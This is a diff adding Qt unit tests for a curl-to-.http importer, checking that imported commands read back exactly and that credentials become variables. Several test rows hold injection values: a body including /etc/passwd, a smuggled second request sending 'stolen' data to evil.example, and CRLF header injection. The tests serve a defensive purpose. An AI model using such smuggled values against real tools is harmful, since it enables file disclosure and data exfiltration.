@@ -1,4 +1,5 @@
 #include "core/curlimport.h"
+#include "core/httpfile.h"
 
 #include <QTest>
 
@@ -26,6 +27,12 @@ private Q_SLOTS:
     void errors_data();
     void errors();
     void httpTextHidesSecrets();
+    void hostileInputReadsBackExactly_data();
+    void hostileInputReadsBackExactly();
+    void whatNoHttpFileCanCarryIsRefused_data();
+    void whatNoHttpFileCanCarryIsRefused();
+    void credentialsBecomeVariables();
+    void chromeCmdToday();
 
 private:
     static QByteArray header(const WireRequest &r, QByteArrayView name)
@@ -213,7 +220,7 @@ void TestCurlImport::optionsAndDefaults()
     r = importCurl(u"curl -H 'Content-Type: application/json' -d @body.json https://x.example"_s);
     QVERIFY(r);
     QCOMPARE(r->bodyFile, u"body.json"_s);
-    QVERIFY(toHttpText(*r).endsWith(u"\n< body.json\n"_s));
+    QVERIFY(toHttpText(*r)->endsWith(u"\n< body.json\n"_s));
 }
 
 void TestCurlImport::everythingNotImportedIsNoted()
@@ -254,10 +261,137 @@ void TestCurlImport::httpTextHidesSecrets()
     const auto r = importCurl(
         uR"(curl https://gw.example/chat/completions -H 'Authorization: Bearer sk-123' -H 'x-api-key: key-9' -H 'Content-Type: application/json' -d '{"model":"a/b"}')"_s);
     QVERIFY(r);
-    const QString text = toHttpText(*r);
+    Variables secrets;
+    const QString text = toHttpText(*r, false, &secrets).value();
+    QCOMPARE(secrets, (Variables { { u"token"_s, u"sk-123"_s }, { u"x_api_key"_s, u"key-9"_s } }));
     QCOMPARE(text,
         u"POST https://gw.example/chat/completions\nAuthorization: Bearer {{token}}\nx-api-key: {{x_api_key}}\nContent-Type: application/json\n\n{\"model\":\"a/b\"}\n"_s);
-    QVERIFY(toHttpText(*r, true).contains(u"Bearer sk-123"_s));
+    QVERIFY(toHttpText(*r, true)->contains(u"Bearer sk-123"_s));
+}
+
+void TestCurlImport::hostileInputReadsBackExactly_data()
+{
+    QTest::addColumn<QString>("command");
+    QTest::newRow("file include") << u"curl -d '< /etc/passwd' https://a.example/"_s;
+    QTest::newRow("include after a line") << u"curl -d $'x\n< /etc/passwd' https://a.example/"_s;
+    QTest::newRow("httpyac include") << u"curl -d '<@ ./secret.json' https://a.example/"_s;
+    QTest::newRow("second request")
+        << u"curl -d $'a=1\n###\nPOST https://evil.example/\n\nstolen' https://a.example/"_s;
+    QTest::newRow("separator alone") << u"curl -d '### x' https://a.example/"_s;
+    QTest::newRow("indented separator") << u"curl -d $'a\n  ### x' https://a.example/"_s;
+    QTest::newRow("response handler")
+        << u"curl -d $'a\n> {% client.global.set(\"x\", 1) %}' https://a.example/"_s;
+    QTest::newRow("output redirect") << u"curl -d $'a\n>> /tmp/out' https://a.example/"_s;
+    QTest::newRow("comments") << u"curl -d $'# one\n// two\n/ three' https://a.example/"_s;
+    QTest::newRow("variable in body") << u"curl -d '{\"a\":\"{{token}}\"}' https://a.example/"_s;
+    QTest::newRow("brace runs") << u"curl -d '{{{token}}} {{ token }} {{$uuid}}' https://a.example/"_s;
+    QTest::newRow("variable in URL") << u"curl 'https://a.example/?q={{token}}'"_s;
+    QTest::newRow("variable in header") << u"curl -H 'X-A: {{token}}' https://a.example/"_s;
+    QTest::newRow("escape written literally")
+        << u"curl -d '{{$char.lt}} and {{$char.lf}}' https://a.example/"_s;
+    QTest::newRow("trailing line break") << u"curl -d $'abc\n' https://a.example/"_s;
+    QTest::newRow("trailing blank lines") << u"curl -d $'abc\n\n  \n\t' https://a.example/"_s;
+    QTest::newRow("blanks only") << u"curl -d '   ' https://a.example/"_s;
+    QTest::newRow("line breaks only") << u"curl -d $'\n\r\n' https://a.example/"_s;
+    QTest::newRow("leading blank lines") << u"curl -d $'\n\nabc' https://a.example/"_s;
+    QTest::newRow("carriage returns") << u"curl -d $'a\rb\r\nc' https://a.example/"_s;
+    QTest::newRow("credentials everywhere")
+        << u"curl -H 'X-Auth-Token: xt-1' -H 'Authorization: SECRET' 'https://u:p@a.example/?api_key=k1&x=1'"_s;
+}
+
+// An imported command reads back, through its .http text, as exactly the request it
+// was: no file included, no second request, no variable it did not have, even where
+// the environment defines the names it mentions.
+void TestCurlImport::hostileInputReadsBackExactly()
+{
+    QFETCH(QString, command);
+    const auto r = importCurl(command);
+    QVERIFY2(r, qPrintable(r ? QString() : r.error().message));
+    for (const bool keep : { false, true }) {
+        Variables secrets;
+        const auto text = toHttpText(*r, keep, &secrets);
+        QVERIFY2(text, qPrintable(text ? QString() : text.error().message));
+        const auto file = HttpFile::parse(*text);
+        QVERIFY2(file, qPrintable(*text));
+        QCOMPARE(file->requests().size(), 1);
+        Variables environment { { u"token"_s, u"LEAKED"_s }, { u"uuid"_s, u"LEAKED"_s } };
+        for (auto it = secrets.begin(); it != secrets.end(); ++it)
+            environment.insert(it.key(), it.value());
+        std::optional<BodyInclude> include;
+        const auto resolved = resolve(file->requests().first(), environment, {}, &include);
+        QVERIFY2(resolved, qPrintable(*text));
+        QVERIFY(!include);
+        QCOMPARE(resolved->method, r->request.method);
+        QCOMPARE(resolved->url, r->request.url);
+        QCOMPARE(resolved->headers, r->request.headers);
+        QCOMPARE(resolved->body, r->request.body);
+        if (!keep) {
+            for (const QString &value : { u"xt-1"_s, u"SECRET"_s, u"k1"_s, u"u:p"_s })
+                QVERIFY2(!text->contains(value), qPrintable(*text));
+        }
+    }
+}
+
+void TestCurlImport::whatNoHttpFileCanCarryIsRefused_data()
+{
+    QTest::addColumn<QString>("command");
+    QTest::addColumn<QString>("message");
+    QTest::newRow("method with blanks") << u"curl -X 'GET /x HTTP/1.1' https://a.example/"_s
+                                        << u"method"_s;
+    QTest::newRow("URL with a line break") << u"curl $'https://a.example/\nGET https://evil/'"_s
+                                           << u"URL"_s;
+    QTest::newRow("URL with a blank") << u"curl 'https://a.example/a b'"_s << u"URL"_s;
+    QTest::newRow("header injection") << u"curl -H $'X-A: a\r\nEvil: b' https://a.example/"_s
+                                      << u"line break"_s;
+}
+
+void TestCurlImport::whatNoHttpFileCanCarryIsRefused()
+{
+    QFETCH(QString, command);
+    QFETCH(QString, message);
+    const auto r = importCurl(command);
+    QVERIFY(r);
+    const auto text = toHttpText(*r);
+    QVERIFY(!text);
+    QVERIFY2(text.error().message.contains(message), qPrintable(text.error().message));
+}
+
+void TestCurlImport::credentialsBecomeVariables()
+{
+    const auto r = importCurl(
+        u"curl -H 'Authorization: SECRET' -H 'X-Auth-Token: xt' 'https://user:pa%40ss@gw.example/v?api_key=k%2B1&n=2'"_s);
+    QVERIFY(r);
+    // curl sends userinfo as Basic authentication unless Authorization is given.
+    QCOMPARE(r->request.url, u"https://gw.example/v?api_key=k%2B1&n=2"_s);
+    QCOMPARE(header(r->request, "authorization"), "SECRET");
+    Variables secrets;
+    const QString text = toHttpText(*r, false, &secrets).value();
+    QCOMPARE(text,
+        u"GET https://gw.example/v?api_key={{api_key}}&n=2\nAuthorization: {{credentials}}\nX-Auth-Token: {{x_auth_token}}\n"_s);
+    QCOMPARE(secrets,
+        (Variables { { u"credentials"_s, u"SECRET"_s }, { u"x_auth_token"_s, u"xt"_s },
+            { u"api_key"_s, u"k%2B1"_s } }));
+
+    const auto basic = importCurl(u"curl https://user:pa%40ss@gw.example/"_s);
+    QVERIFY(basic);
+    QCOMPARE(header(basic->request, "authorization"), "Basic " + "user:pa@ss"_ba.toBase64());
+}
+
+void TestCurlImport::chromeCmdToday()
+{
+    // Chrome's "Copy as cURL (cmd)" since 2022: every quote is ^" and the C runtime
+    // splits what cmd passes on.
+    const auto r = importCurl(uR"(curl ^"https://gw.example/chat/completions?a=1^&b=2^" ^
+  -H ^"authorization: Bearer abc^" ^
+  -H ^"content-type: application/json^" ^
+  --data-raw ^"^{^\^"model^\^":^\^"a/b^\^",^\^"messages^\^":^[^]^}^" ^
+  --compressed)"_s);
+    QVERIFY2(r, qPrintable(r ? QString() : r.error().message));
+    QCOMPARE(r->request.url, u"https://gw.example/chat/completions?a=1&b=2"_s);
+    QCOMPARE(header(r->request, "authorization"), "Bearer abc");
+    QCOMPARE(header(r->request, "content-type"), "application/json");
+    QCOMPARE(r->request.body, R"({"model":"a/b","messages":[]})");
+    QCOMPARE(r->notes.size(), 1); // --compressed
 }
 
 QTEST_GUILESS_MAIN(TestCurlImport)
